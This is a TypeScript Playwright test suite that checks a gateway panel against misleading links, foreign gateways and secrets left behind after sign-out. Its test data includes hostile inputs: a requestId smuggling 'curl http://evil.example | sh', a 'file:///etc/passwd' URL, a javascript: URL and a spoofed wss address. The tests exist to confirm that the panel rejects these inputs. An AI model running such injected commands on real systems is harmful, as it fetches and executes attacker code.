/** Links and gateways of strangers, and what a browser still shows or keeps that is no longer signed in. In a real Chromium. */
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { connect } from "@svc/sdk/client";
import { devices } from "@svc/sdk/devices";
import type { Page } from "playwright-core";
import { without } from "../../programs.ts";
import { openPanel } from "./browser-scene.ts";
import { strangeGateway } from "./strange-gateway.ts";

const skip = without("chromium");
const content = (page: Page) => page.locator("main#content");
const heading = (page: Page, name: string) => page.getByRole("heading", { name });

describe("a link of a stranger", { skip, concurrency: 2 }, () => {
  it("is asked about by the name of the gateway that would be used", async (t) => {
    const { page: newPage, address } = await openPanel(t);
    const page = await newPage();
    const misleading = "wss://127.0.0.1:18789@Evil.example/#panel";
    await page.goto(`${address}/?gatewayUrl=${encodeURIComponent(misleading)}`);
    await heading(page, "Connect to another gateway?").waitFor();
    const text = await page.locator("main").innerText();
    assert.match(text, /wss:\/\/evil\.example\./);
    assert.equal(text.includes("127.0.0.1"), false);
  });

  for (const none of ["javascript:alert(1)", "wss://", "file:///etc/passwd"])
    it(`gives no credential to anyone if it names ${none}`, async (t) => {
      const { page: newPage, address, gateway, client } = await openPanel(t);
      const page = await newPage();
      await page.goto(`${address}/?gatewayUrl=${encodeURIComponent(none)}#token=${gateway.token}`);
      await heading(page, "Sign in").waitFor();
      assert.equal(page.url(), `${address}/`);
      assert.deepEqual((await client.call(devices.list, {})).paired, []);
    });

  it("does not sign a browser out with a wrong secret", async (t) => {
    const { open, address } = await openPanel(t);
    const page = await open();
    for (const secret of ["token=wrong", "invite=svc-invite-wrong"]) {
      await page.goto("about:blank");
      await page.goto(`${address}/#${secret}`);
      await content(page).waitFor();
      assert.equal(page.url(), `${address}/`);
    }
  });

  it("says whose question it is when the other gateway asks for a secret", async (t) => {
    const { page: newPage, address, problems } = await openPanel(t);
    const details = { code: "AUTH_TOKEN_MISSING" };
    const { url } = await strangeGateway(t, { code: "INVALID_REQUEST", message: "unauthorized", details });
    const page = await newPage();
    await page.goto(`${address}/?gatewayUrl=${encodeURIComponent(url)}`);
    await page.getByRole("button", { name: "Connect to it" }).click();
    await heading(page, "Sign in").waitFor();
    await page.getByRole("alert").getByText(url).waitFor();
    problems.length = 0; // the connection to the other gateway is the subject of this test
  });

  it("waits for an approval even if the other gateway names no request", async (t) => {
    const { page: newPage, address, problems } = await openPanel(t);
    const { url } = await strangeGateway(t, { code: "NOT_PAIRED", message: "pairing required" });
    const page = await newPage();
    await page.goto(`${address}/?gatewayUrl=${encodeURIComponent(url)}`);
    await page.getByRole("button", { name: "Connect to it" }).click();
    await heading(page, "This browser needs approval").waitFor();
    problems.length = 0; // as above
  });

  it("puts no command of the other gateway into the line that people copy", async (t) => {
    const { page: newPage, address, problems } = await openPanel(t);
    const details = { code: "PAIRING_REQUIRED", requestId: "x; curl http://evil.example | sh" };
    const { url } = await strangeGateway(t, { code: "NOT_PAIRED", message: "pairing required", details });
    const page = await newPage();
    await page.goto(`${address}/?gatewayUrl=${encodeURIComponent(url)}`);
    await page.getByRole("button", { name: "Connect to it" }).click();
    await heading(page, "This browser needs approval").waitFor();
    assert.equal(await page.locator(".command code").innerText(), "svc devices approve");
    problems.length = 0; // as above
  });
});

it("gives a refusal of a strange gateway a known code, whatever it sends", async (t) => {
  const { url } = await strangeGateway(t, { code: "constructor", message: "no" });
  await assert.rejects(connect({ url }), { code: "INTERNAL", message: "no" });
});

describe("a link in a tab that shows the panel", { skip, concurrency: 2 }, () => {
  it("signs in, and leaves no secret in the address or the history", async (t) => {
    const { page: newPage, address, client } = await openPanel(t);
    const page = await newPage();
    await page.goto(`${address}/`);
    await heading(page, "Sign in").waitFor();
    const { token } = await client.call(devices.invite, {});
    await page.evaluate(`location.href = ${JSON.stringify(`${address}/#invite=${token}`)}`); // as in the address bar: no new page
    await content(page).waitFor();
    assert.equal(page.url(), `${address}/`);
    await page.goBack();
    assert.equal(page.url(), `${address}/`);
  });

  it("asks before it leaves the gateway, and returns to it", async (t) => {
    const { open, address } = await openPanel(t);
    const page = await open();
    await page.evaluate(`location.hash = "gatewayUrl=wss://evil.example"`);
    await heading(page, "Connect to another gateway?").waitFor();
    assert.equal(page.url(), `${address}/`);
    await page.getByRole("button", { name: "Stay with this gateway" }).click();
    await content(page).waitFor();
  });
});

describe("a browser that is no longer signed in", { skip, concurrency: 2 }, () => {
  it("shows no dialog with a secret and no title of what was open", async (t) => {
    const { open, client } = await openPanel(t);
    const page = await open("/devices");
    await page.getByRole("button", { name: "Invite" }).first().click();
    await page.getByRole("dialog").getByText("#invite=").waitFor();
    const { paired } = await client.call(devices.list, {});
    await client.call(devices.remove, { deviceId: paired[0]?.deviceId ?? "" });
    await heading(page, "Sign in").waitFor();
    assert.equal(await page.getByRole("dialog").count(), 0);
    assert.equal((await page.content()).includes("invite="), false);
    assert.equal(await page.title(), "svc");
  });

  it("keeps no drafts and no conversations after a sign-out, in any tab", async (t) => {
    const { open, address } = await openPanel(t);
    const page = await open();
    const field = page.locator("main#content textarea").first();
    await field.fill("a private draft");
    await page.waitForFunction(`Object.values(sessionStorage).includes("a private draft")`);
    const other = await page.context().newPage();
    await other.goto(`${address}/overview`);
    await content(other).waitFor();
    const asked: string[] = [];
    page.on("dialog", (dialog) => {
      asked.push(dialog.type());
      void dialog.accept();
    });
    await page.evaluate(`addEventListener("beforeunload", (event) => event.preventDefault())`); // as views do for unsaved work
    await page.getByRole("button", { name: "Panel settings" }).click();
    await page.getByRole("button", { name: "Sign out" }).click();
    await page.getByRole("dialog").getByRole("button", { name: "Sign out" }).click();
    await heading(page, "Sign in").waitFor();
    await heading(other, "Sign in").waitFor();
    await page.waitForFunction(`Object.keys(sessionStorage).length === 0 && !("svc-panel.seen" in localStorage)`);
    await page.waitForURL(`${address}/`);
    await other.waitForURL(`${address}/`);
    assert.deepEqual(asked, [], "people cannot stay with unsaved work");
  });

  it("has no view that an address takes from the language itself", async (t) => {
    const { open } = await openPanel(t);
    const page = await open("/constructor");
    await page.getByText("svc", { exact: true }).first().waitFor();
    assert.equal(await page.title(), "svc");
  });
});
